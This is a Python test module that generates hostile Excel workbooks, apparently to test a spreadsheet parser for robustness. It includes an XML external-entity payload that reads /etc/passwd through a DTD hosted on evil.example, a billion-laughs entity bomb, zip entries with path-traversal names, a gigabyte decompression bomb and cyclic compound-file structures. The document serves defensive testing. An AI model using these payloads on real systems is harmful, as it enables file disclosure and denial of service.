"""Hostile workbooks."""

import struct
from pathlib import Path

from case import LOG, case
from workbook import DATA, HEAD, OLD_DATA, OLD_HEAD, entry, label, old_workbook, record, row, stream_of, workbook

XLSX, XLS = f"{LOG} log.xlsx", f"{LOG} log.xls"
_LAST = "1048576"


@case(XLSX)
def sheet_that_claims_all_cells(folder: Path, many: int) -> None:
    """A sheet that says that it goes to the last cell that Excel has, and does not."""
    workbook(folder / "log.xlsx", dimension=f"A1:XFD{_LAST}")


@case(XLSX)
def cell_far_out(folder: Path, many: int) -> None:
    """One cell in the last column of the last row, in single quotes: room for 17 billion cells."""
    workbook(folder / "log.xlsx", HEAD + DATA + f"<row r='{_LAST}'><c\nr='XFD{_LAST}'><v>1</v></c></row>")


@case(XLSX)
def cell_beyond_all_sheets(folder: Path, many: int) -> None:
    """A cell in a row and a column of more digits and letters than there are."""
    workbook(folder / "log.xlsx", HEAD + DATA + '<row r="4294967295"><c r="ZZZZZZ99999999999"><v>1</v></c></row>')


@case(XLSX)
def cells_without_places(folder: Path, many: int) -> None:
    """16,000 cells in a row that do not say where they stand, and a row far below."""
    workbook(folder / "log.xlsx", HEAD + f"<row>{'<c/>' * 16_000}</row><row r='{_LAST}'><c><v>1</v></c></row>")


@case(XLSX)
def sheet_under_another_name(folder: Path, many: int) -> None:
    """A cell far out in a part that is named like a picture."""
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="media/a.png"/>'
        "</Relationships>"
    )
    far = f'<worksheet><sheetData><row r="1"><c r="A1"/><c r="XFD{_LAST}"><v>1</v></c></row></sheetData></worksheet>'
    workbook(folder / "log.xlsx", more={"xl/_rels/workbook.xml.rels": rels, "xl/media/a.png": far})


@case(XLSX)
def blank_rows_to_the_end(folder: Path, many: int) -> None:
    """60,000 rows of cells without anything in them."""
    rows = (f'<row r="{n}"><c r="A{n}"/><c r="I{n}"/></row>' for n in range(3, 60_000))
    workbook(folder / "log.xlsx", (HEAD, DATA, *rows))


@case(XLSX)
def string_shared_by_all_cells(folder: Path, many: int) -> None:
    """One string of a megabyte that 20,000 cells share: 20 GB."""
    cells = (f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(2, 20_000))
    workbook(folder / "log.xlsx", (HEAD, *cells), strings=("<si><t>", "a" * 1_000_000, "</t></si>"))


@case(XLSX)
def string_that_is_not_there(folder: Path, many: int) -> None:
    """A cell with the number of a shared string that there is not."""
    workbook(folder / "log.xlsx", HEAD + '<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>', strings=())


@case(XLSX, huge=True)
def part_that_unpacks_to_gigabytes(folder: Path, many: int) -> None:
    """A part of blanks that is small and unpacks to more than a gigabyte, as its directory says."""
    workbook(folder / "log.xlsx", more={"xl/media/a.bin": bytes(1_080_000_000)})


@case(XLSX)
def entities_of_entities(folder: Path, many: int) -> None:
    """A document type whose entities expand to billions."""
    told = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    workbook(folder / "log.xlsx", HEAD + row(2, "&e9;", "fiscal"), before=f'<!DOCTYPE a [<!ENTITY e0 "lol">{told}]>')


@case(XLSX)
def entity_from_outside(folder: Path, many: int) -> None:
    """An entity that stands for a file of this machine, in a document type that stands on another."""
    workbook(
        folder / "log.xlsx",
        HEAD + row(2, "&x;", "fiscal"),
        before='<!DOCTYPE a SYSTEM "http://evil.example/a.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    )


@case(XLSX)
def links_to_another_workbook(folder: Path, many: int) -> None:
    """Cells that are formulas over another machine's workbook: what was saved with them is read, nothing is fetched."""
    cell = '<c r="A2" t="str"><f>[1]Sheet1!A1</f><v>2017-09-04</v></c>'
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="x" Target="http://evil.example/x.xlsx" TargetMode="External"/></Relationships>'
    )
    workbook(
        folder / "log.xlsx",
        HEAD + row(2, "x", "fiscal", "2017-07").replace('<c r="A2" t="inlineStr"><is><t>x</t></is></c>', cell),
        more={"xl/externalLinks/externalLink1.xml": "<x/>", "xl/externalLinks/_rels/externalLink1.xml.rels": rels},
    )


@case(XLSX)
def formulas_without_values(folder: Path, many: int) -> None:
    """Formulas that nobody has computed, and such as came to an error."""
    cells = '<c r="A2"><f>TODAY()</f></c><c r="B2" t="e"><f>1/0</f><v>#DIV/0!</v></c><c r="C2"><f>NOW()</f><v>x</v></c>'
    workbook(folder / "log.xlsx", HEAD + f'<row r="2">{cells}</row>' + DATA.replace('r="2"', 'r="3"'))


@case(XLSX)
def numbers_beyond_numbers(folder: Path, many: int) -> None:
    """NaN, infinity, and days that no calendar has, where dates should be."""
    cells = [f'<row r="{n}"><c r="A{n}"><v>{v}</v></c><c r="B{n}"><v>{v}</v></c></row>' for n, v in
             enumerate(["NaN", "1e308", "-1e999", "99999999999", "-5"], start=2)]  # fmt: skip
    workbook(folder / "log.xlsx", (HEAD, *cells))


@case(XLSX)
def elements_nested_deeply(folder: Path, many: int) -> None:
    """100,000 elements, each in the one before."""
    workbook(folder / "log.xlsx", HEAD + "<a>" * 100_000)


@case(XLSX)
def merged_over_and_over(folder: Path, many: int) -> None:
    """10,000 merged cells over the same rows, and such as end before they begin."""
    rows = "".join(row(n, "2017-09-04", "fiscal", "2017-07") for n in range(2, 3000))
    merged = f'<mergeCell ref="B2:B{_LAST}"/>' * 10_000 + '<mergeCell ref="XFD1048576:A1"/>'
    workbook(folder / "log.xlsx", HEAD + rows, after=f"<mergeCells>{merged}</mergeCells>")


@case(XLSX)
def parts_with_names_outside(folder: Path, many: int) -> None:
    """Parts whose names lead out of the folder."""
    workbook(folder / "log.xlsx", more={"../../evil": "x", "/tmp/evil": "x", "xl\\..\\..\\evil": "x"})  # noqa: S108


@case(XLSX)
def archive_of_nothing(folder: Path, many: int) -> None:
    """The first bytes of an archive, and zeros."""
    (folder / "log.xlsx").write_bytes(b"PK\x03\x04" + bytes(1000))


@case(XLS)
def old_workbook_of_noise(folder: Path, many: int) -> None:
    """The first bytes of an old workbook, and noise."""
    (folder / "log.xls").write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + b"\xff" * 5000)


def _dimensions(rows: int, columns: int) -> bytes:
    """What a sheet says of itself: that it has so many rows and columns."""
    return record(0x0200, struct.pack("<IIHHH", 0, rows, 0, columns, 0))


@case(XLS)
def old_sheet_that_claims_more_than_there_is(folder: Path, many: int) -> None:
    """An old sheet that says that it has 4 billion rows of 65,535 columns, and has two."""
    old_workbook(folder / "log.xls", stream_of([_dimensions(0xFFFFFFFF, 0xFFFF) + OLD_HEAD + OLD_DATA]))


@case(XLS)
def old_cell_far_out(folder: Path, many: int) -> None:
    """One cell in the last column of the last row that old sheets have: room for 16.8 million cells."""
    old_workbook(folder / "log.xls", stream_of([OLD_HEAD + OLD_DATA + label(65_535, 255, "x")]))


@case(XLS)
def old_cell_beyond_all_sheets(folder: Path, many: int) -> None:
    """A cell in column 65,535 of an old sheet, which has 256: room for 4 billion cells."""
    old_workbook(folder / "log.xls", stream_of([OLD_HEAD + OLD_DATA + label(65_535, 65_535, "x")]))


@case(XLS)
def old_strings_beyond_all_memory(folder: Path, many: int) -> None:
    """A table of shared strings that says that it has 2 billion of them."""
    table = record(0x00FC, struct.pack("<II", 1, 0x7FFFFFFF))
    old_workbook(folder / "log.xls", stream_of([OLD_HEAD + OLD_DATA], before=table))


@case(XLS)
def old_sectors_in_a_circle(folder: Path, many: int) -> None:
    """A compound file whose second sector is followed by its first, again and again."""
    old_workbook(folder / "log.xls", stream_of([OLD_HEAD + OLD_DATA]), next_sectors={1: 0})


@case(XLS)
def old_sectors_outside(folder: Path, many: int) -> None:
    """A compound file whose second sector is followed by one that lies a terabyte beyond its end."""
    old_workbook(folder / "log.xls", stream_of([OLD_HEAD + OLD_DATA]), next_sectors={1: 0x7FFFFF00})


@case(XLS)
def old_sheets_that_are_one(folder: Path, many: int) -> None:
    """20,000 sheets, each of which starts where the first does, before 100,000 records of nothing."""
    nothing = record(0x0FFF) * 100_000
    old_workbook(folder / "log.xls", stream_of([OLD_HEAD + OLD_DATA + nothing], starts=[0] * 20_000))


@case(XLS)
def old_sheets_full_of_cells(folder: Path, many: int) -> None:
    """Twenty sheets that start at the same place: 20,000 rows of 256 columns each."""
    cells = OLD_HEAD + b"".join(label(row, 255, "x") for row in range(20_000))
    old_workbook(folder / "log.xls", stream_of([cells], starts=[0] * 20))


@case(XLS)
def old_ranges_merged_over_everything(folder: Path, many: int) -> None:
    """An old sheet of which all cells there can be are merged into one, a thousand times."""
    merged = record(0x00E5, struct.pack("<H", 1000) + struct.pack("<HHHH", 0, 65_535, 0, 255) * 1000)
    old_workbook(folder / "log.xls", stream_of([OLD_HEAD + OLD_DATA + merged]))


@case(XLS)
def old_small_sectors_in_a_circle(folder: Path, many: int) -> None:
    """A compound file whose workbook is in small sectors, the first of which follows itself; found by fuzzing."""
    compound = folder / "log.xls"
    old_workbook(compound, stream_of([OLD_HEAD + OLD_DATA]))
    raw = bytearray(compound.read_bytes())
    table, directory = 512, 1024
    first = struct.unpack_from("<I", raw, directory + 128 + 116)[0]
    struct.pack_into("<II", raw, directory + 116, first, 4096)  # the root's stream holds the small sectors
    struct.pack_into("<II", raw, directory + 128 + 116, 0, 4000)
    struct.pack_into("<II", raw, 60, len(raw) // 512 - 1, 1)  # their table, in a sector at the end
    struct.pack_into("<I", raw, table + 4 * (len(raw) // 512 - 1), 0xFFFFFFFE)
    compound.write_bytes(bytes(raw) + bytes(512))


@case(XLS)
def old_folders_of_folders(folder: Path, many: int) -> None:
    """A directory in which each of two entries leads to the next one twice."""
    twice = [entry("a", 1, left=3, right=3, child=3), entry("b", 1, left=2, right=2, child=1)]
    old_workbook(folder / "log.xls", stream_of([OLD_HEAD + OLD_DATA]), folders=twice)
